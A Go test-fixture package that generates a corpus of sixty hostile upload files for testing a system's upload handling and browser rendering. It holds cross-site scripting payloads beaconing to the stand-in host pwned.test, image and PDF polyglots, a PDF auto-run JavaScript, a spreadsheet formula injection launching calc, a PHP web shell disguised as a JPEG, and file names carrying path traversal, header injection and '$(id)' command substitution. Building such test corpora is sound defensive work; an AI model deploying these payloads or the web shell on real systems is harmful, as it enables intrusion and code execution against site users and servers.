// Package hostile is a corpus of files that try to run something in the browser of whoever opens them, or to break what
// handles their names. The tests of the system upload them, the tests in a browser open them. Each file calls out to
// http://pwned.test/ by any way that a script or a page could.
package hostile

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"strings"
	"unicode/utf16"
)

// File is one of the corpus.
type File struct {
	// Name is what the file is called. It may be anything, also no UTF-8.
	Name    string
	Content []byte
}

// Size is how many files there are.
const Size = 60

// Files gives the corpus.
func Files() []File {
	b := &builder{}
	b.pages()
	b.disguised()
	b.polyglots()
	b.endings()
	b.names()
	if len(b.files) != Size {
		panic(fmt.Sprintf("hostile: %d files, want %d", len(b.files), Size))
	}
	return b.files
}

type builder struct{ files []File }

func (b *builder) add(name, content string) {
	b.files = append(b.files, File{Name: name, Content: []byte(content)})
}

// script is what tells that it ran, for the next file.
func (b *builder) script() string {
	return fmt.Sprintf(`(function(){var n=%d,u='http://pwned.test/'+n;`+
		`try{new Image().src=u}catch(e){}try{fetch(u,{mode:'no-cors'})}catch(e){}try{document.title='pwned'}catch(e){}`+
		`try{top.postMessage('pwned '+n,'*')}catch(e){}try{parent.pwned(n)}catch(e){}try{self.pwned(n)}catch(e){}try{alert('pwned')}catch(e){}})();`, len(b.files)+1)
}

// page is a page that runs the script, by itself and by an event, and calls out without one.
func (b *builder) page() string {
	n := len(b.files) + 1
	return fmt.Sprintf(`<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=http://pwned.test/%d"><script>%s</script>`+
		`<link rel="stylesheet" href="http://pwned.test/%d.css"></head><body onload="%s"><img src="http://pwned.test/%d.png"><iframe src="javascript:%s"></iframe></body></html>`,
		n, b.script(), n, b.script(), n, b.script())
}

func (b *builder) svg() string {
	return `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10" onload="` + b.script() +
		`"><script>` + b.script() + `</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>` + b.script() + `</script></body></foreignObject></svg>`
}

// pages are documents and scripts under their own names.
func (b *builder) pages() {
	b.add("page.html", b.page())
	b.add("page.HTM", b.page())
	b.add("page.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><head><title/><script>`+b.script()+`</script></head><body/></html>`)
	b.add("page.shtml", `<!--#exec cmd="id" -->`+b.page())
	b.add("picture.svg", b.svg())
	b.add("picture.svgz", gzipped(b.svg()))
	b.add("data.xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">`+b.script()+`</x:script>`)
	b.add("style.xsl", `<xsl:stylesheet id="x" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>`+b.script()+`</script></xsl:template></xsl:stylesheet>`)
	b.add("script.js", b.script())
	b.add("module.mjs", `export default 1;`+b.script())
	b.add("style.css", `@import url("http://pwned.test/css"); body { background: url("javascript:`+b.script()+`") }`)
	b.add("page.mht", "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"+b.page()+"\r\n--x--\r\n")
	b.add("application.hta", `<hta:application/>`+b.page())
	b.add("worker.wasm", "\x00asm\x01\x00\x00\x00"+b.script())
	b.add("movie.swf", "FWS\x08\x20\x00\x00\x00"+b.page())
}

// disguised are pages under the names of something else, or that begin so that they are hard to know.
func (b *builder) disguised() {
	b.add("photo.jpg", b.page())
	b.add("photo.png", b.svg())
	b.add("contract.pdf", b.page())
	b.add("notes.txt", b.page())
	b.add("table.csv", "name,formula\r\n=cmd|' /C calc'!A0,\"<script>"+b.script()+"</script>\"\r\n@SUM(1),+1\r\n")
	b.add("noending", b.page())
	b.add("late.html", strings.Repeat(" ", 5000)+b.page())
	b.add("comment.html", "<!-- "+strings.Repeat("x", 4090)+" -->"+b.page())
	b.add("utf16.html", utf16LE(b.page()))
	b.add("utf7.html", "+ADw-script+AD4-"+b.script()+"+ADw-/script+AD4-"+b.page())
}

// polyglots are two things at once: what is accepted, and what runs.
func (b *builder) polyglots() {
	b.add("gif-script.gif", "GIF89a/*\x00\x00\x00\x00\x00*/=1;"+b.script())
	b.add("gif-page.gif", "GIF89a\x01\x00\x01\x00\x00\x00\x00"+b.page())
	comment := b.page()
	b.add("jpeg-page.jpg", "\xff\xd8\xff\xfe"+string(binary.BigEndian.AppendUint16(nil, uint16(len(comment)+2)))+comment+"\xff\xd9") //nolint:gosec // it is short
	b.add("png-page.png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89tEXt"+b.page())
	b.add("bmp-script.bmp", "BM/*\x00\x00\x00\x00\x00\x00\x00*/=1;"+b.script())
	b.add("webp-page.webp", "RIFF\x00\x10\x00\x00WEBPVP8 "+b.page())
	b.add("mp4-page.mp4", "\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"+b.page())
	b.add("pdf-page.pdf", "%PDF-1.4\n<!-- -->"+b.page())
	b.add("pdf-script.pdf", "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\('pwned'\\);this.submitForm\\('http://pwned.test/'\\);)>>/Pages 2 0 R>>endobj\n"+
		"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF "+b.page())
	b.add("zip-page.zip", b.page()+zipped("page.html", b.page()))
	b.add("word-page.docx", zipped("word/document.xml", b.svg())+b.page())
	b.add("rtf-page.rtf", `{\rtf1\ansi `+b.page()+`}`)
	b.add("mail.eml", "From: a@example.com\r\nTo: b@example.com\r\nSubject: <script>\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"+b.page())
	b.add("data.json", `{"__proto__":{"x":1},"a":"</script><script>`+b.script()+`</script>"}`)
}

// endings are names with more than one ending, or with one that a server or a system takes for a program.
func (b *builder) endings() {
	b.add("invoice.pdf.html", b.page())
	b.add("invoice.html.pdf", pdf+b.page())
	b.add("photo.jpg.svg", b.svg())
	b.add("invoice.pdf.exe", "MZ\x90\x00\x03\x00\x00\x00"+b.page())
	b.add("shell.php.jpg", "\xff\xd8\xff\xe0<?php system($_GET[0]); ?>"+b.page())
	b.add(".htaccess", "AddType text/html .pdf\n"+b.page())
	b.add("contract.pdf%00.html", pdf+b.page())
}

// names are harmless PDFs, but for their names.
func (b *builder) names() {
	for _, name := range []string{
		strings.Repeat("long ", 2048) + ".pdf",
		strings.Repeat("ä", 251) + ".pdf",
		"invoice\u202efdp.exe",
		"../../../../../../etc/passwd",
		`..\..\windows\system32\drivers\etc\hosts.pdf`,
		"before\x00after.pdf",
		"header.pdf\r\nContent-Type: text/html\r\n\r\n<script>alert('pwned')</script>",
		`quoted"; filename="evil.html`,
		"<img src=x onerror=alert('pwned')>.pdf",
		"👩‍👩‍👧‍👦 e\u0301 \u200bzero\ufeff width.pdf",
		"CON.pdf",
		" . .. ... ",
		"broken \xff\xfe\xc0\xaf utf-8.pdf",
		"line\u2028separator\u2029 $(id) `id` %22%2e%2e%2f;'--.pdf",
	} {
		b.add(name, pdf+b.page())
	}
}

const pdf = "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"

func gzipped(s string) string {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	_, _ = w.Write([]byte(s)) // never fails in memory
	_ = w.Close()
	return buf.String()
}

func zipped(name, content string) string {
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	f, _ := w.Create(name) // never fails in memory
	_, _ = f.Write([]byte(content))
	_ = w.Close()
	return buf.String()
}

func utf16LE(s string) string {
	out := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		out = binary.LittleEndian.AppendUint16(out, u)
	}
	return string(out)
}
